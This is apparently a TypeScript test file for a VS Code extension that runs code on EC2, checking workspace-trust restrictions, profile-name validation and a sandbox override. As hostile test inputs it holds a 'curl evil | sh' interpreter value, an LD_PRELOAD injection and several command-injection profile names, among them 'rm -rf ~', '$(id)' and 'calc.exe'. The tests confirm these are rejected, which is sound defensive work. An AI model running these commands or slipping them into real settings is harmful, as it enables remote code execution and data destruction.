// What a cloned workspace can and cannot choose: restricted settings in Restricted Mode, the
// profile/region choice kept in workspace state, the SSO terminal's profile, the built-in sandbox
// override. All vscode-free logic; the extension-host suite plays the hostile settings file.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { isValidProfileName, listProfiles, missingProfileMessage } from '../../src/core/profiles';
import { Connection } from '../../src/extension/connection';
import { ssoLoginTerminal } from '../../src/extension/errorInfo';
import {
  RESTRICTED_SETTING_KEYS,
  SETTING_KEYS,
  trustedValue,
  type ExtensionSettings,
} from '../../src/extension/settings';
import { MemoryStore } from '../support/memoryStore';

const root = path.resolve(__dirname, '..', '..', '..');
const pkg = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8'));

const settings = (over: Partial<ExtensionSettings> = {}): ExtensionSettings =>
  ({
    profile: '',
    region: '',
    endpointUrl: '',
    bucket: '',
    keyPrefix: 'ec2-runner/',
    interpreter: '',
    workingDirectory: '',
    env: {},
    timeoutSeconds: 3600,
    saveBeforeRun: true,
    transferMode: 'presigned',
    clearPreviousOutput: false,
    preserveFocus: true,
    promptForArguments: false,
    feedback: 'exitCodeAndData',
    installDependencies: true,
    venvRoot: '',
    ...over,
  }) as ExtensionSettings;

describe('workspace trust', () => {
  test('the manifest restricts exactly the settings that pick credentials, endpoint, bucket or what runs', () => {
    const declared = pkg.capabilities.untrustedWorkspaces;
    assert.equal(declared.supported, 'limited');
    assert.deepEqual(
      [...declared.restrictedConfigurations].sort(),
      RESTRICTED_SETTING_KEYS.map((k) => `ec2Runner.${k}`).sort(),
    );
    for (const key of [
      'profile',
      'region',
      'endpointUrl',
      'bucket',
      'keyPrefix',
      'interpreter',
      'env',
      'workingDirectory',
      'venvRoot',
      'transferMode',
    ] as const) {
      assert.ok(RESTRICTED_SETTING_KEYS.includes(key), `${key} is restricted`);
    }
    for (const key of RESTRICTED_SETTING_KEYS) assert.ok(SETTING_KEYS.includes(key), `${key} is a setting`);
    assert.ok(['limited', false].includes(pkg.capabilities.virtualWorkspaces.supported));
    assert.ok(pkg.capabilities.virtualWorkspaces.description);
  });

  test('connection settings are machine-scoped: the endpoint never comes from a workspace', () => {
    const p = pkg.contributes.configuration.properties;
    assert.equal(p['ec2Runner.endpointUrl'].scope, 'machine');
    for (const key of ['profile', 'region', 'bucket', 'kmsKeyId', 'keyPrefix'])
      assert.equal(p[`ec2Runner.${key}`].scope, 'machine-overridable', key);
    assert.deepEqual(pkg.extensionKind, ['workspace']);
  });

  test('in an untrusted workspace a restricted setting is the user value or the default, never the workspace value', () => {
    const hostile = { defaultValue: '', globalValue: undefined, workspaceValue: "sh -c 'curl evil | sh'" };
    assert.equal(trustedValue('interpreter', hostile, hostile.workspaceValue, false), '');
    assert.equal(
      trustedValue('interpreter', { ...hostile, globalValue: 'python3 -u' }, hostile.workspaceValue, false),
      'python3 -u',
    );
    assert.equal(
      trustedValue('interpreter', hostile, hostile.workspaceValue, true),
      hostile.workspaceValue,
      'trusted: the workspace decides',
    );
    const folder = { defaultValue: {}, workspaceFolderValue: { LD_PRELOAD: '/tmp/x.so' } };
    assert.deepEqual(trustedValue('env', folder, folder.workspaceFolderValue, false), {});
    assert.equal(
      trustedValue('timeoutSeconds', { defaultValue: 3600, workspaceValue: 5 }, 5, false),
      5,
      'unrestricted settings keep the workspace value',
    );
  });
});

describe('profile and region choice, SSO terminal, sandbox override', () => {
  test('Select Profile and Region lives in workspace state and overrides the settings', async () => {
    const state = new MemoryStore();
    const connection = new Connection(state);
    let changes = 0;
    connection.onDidChange(() => changes++);
    assert.equal(connection.apply(settings({ profile: 'from-settings' })).profile, 'from-settings');
    await connection.choose({ profile: 'dev', region: 'eu-central-1' });
    assert.equal(changes, 1);
    assert.deepEqual(state.values.get('ec2Runner.profileRegion'), { profile: 'dev', region: 'eu-central-1' });
    const applied = connection.apply(settings({ profile: 'from-settings', region: 'us-east-1' }));
    assert.equal(applied.profile, 'dev');
    assert.equal(applied.region, 'eu-central-1');
    assert.equal(connection.engineSettings(settings()).profile, 'dev');
    await connection.choose({ profile: '', region: '' });
    assert.equal(
      connection.apply(settings({ profile: 'from-settings' })).profile,
      '',
      '"from the environment" is a choice too',
    );
    await assert.rejects(connection.choose({ profile: 'x; calc.exe', region: '' }), /not a valid AWS profile name/);
    state.values.set('ec2Runner.profileRegion', { profile: '$(touch /tmp/p)', region: '' });
    assert.equal(connection.choice, undefined, 'a tampered stored name is ignored');
  });

  test('the built-in sandbox overrides endpoint, region, bucket and credentials in memory, and ignores the profile', async () => {
    const state = new MemoryStore();
    const connection = new Connection(state);
    await connection.choose({ profile: 'prod', region: 'eu-west-1' });
    connection.setSandbox({
      endpointUrl: 'http://127.0.0.1:1234',
      region: 'us-west-2',
      bucket: 'sb',
      credentials: { accessKeyId: 'AKIDSANDBOX', secretAccessKey: 's' },
    });
    const engine = connection.engineSettings(settings({ endpointUrl: 'https://elsewhere.invalid', bucket: 'mine' }));
    assert.deepEqual(engine, {
      profile: undefined,
      region: 'us-west-2',
      endpointUrl: 'http://127.0.0.1:1234',
      bucket: 'sb',
      keyPrefix: 'ec2-runner/',
      credentials: { accessKeyId: 'AKIDSANDBOX', secretAccessKey: 's' },
    });
    connection.setSandbox(undefined);
    assert.equal(
      connection.engineSettings(settings()).profile,
      'prod',
      'stopping the sandbox returns to the previous choice',
    );
    assert.equal(connection.engineSettings(settings()).credentials, undefined);
    assert.deepEqual([...state.values.keys()], ['ec2Runner.profileRegion'], 'nothing of the sandbox was stored');
  });

  test('the SSO terminal gets the profile in its environment, never as typed text; odd names are refused', () => {
    assert.deepEqual(ssoLoginTerminal('dev-admin'), { env: { AWS_PROFILE: 'dev-admin' }, text: 'aws sso login' });
    assert.deepEqual(ssoLoginTerminal(undefined), { env: {}, text: 'aws sso login' });
    for (const hostile of [
      'x"; calc; "',
      "a' ; rm -rf ~ ; '",
      'a & whoami',
      'a`id`',
      '$(id)',
      'a\nwhoami',
      'two words',
      '',
    ]) {
      if (hostile) assert.equal(ssoLoginTerminal(hostile), undefined, JSON.stringify(hostile));
      assert.equal(isValidProfileName(hostile), false, JSON.stringify(hostile));
    }
    for (const fine of ['default', 'dev', 'corp.admin@123', 'team/ci', 'a_b-c+d:e'])
      assert.ok(isValidProfileName(fine), fine);
  });

  test('a missing profile is named, with the files read and the profiles found there', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ec2-runner-profiles-'));
    try {
      const env = {
        AWS_CONFIG_FILE: path.join(dir, 'config'),
        AWS_SHARED_CREDENTIALS_FILE: path.join(dir, 'credentials'),
      };
      fs.writeFileSync(env.AWS_CONFIG_FILE, '[default]\nregion = eu-west-1\n[profile dev]\n');
      assert.deepEqual(listProfiles(env), ['default', 'dev']);
      const message = missingProfileMessage('nosuch', env);
      assert.match(message, /profile "nosuch" does not exist/);
      assert.ok(message.includes(env.AWS_CONFIG_FILE) && message.includes(env.AWS_SHARED_CREDENTIALS_FILE), message);
      assert.match(message, /profiles there: default, dev/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
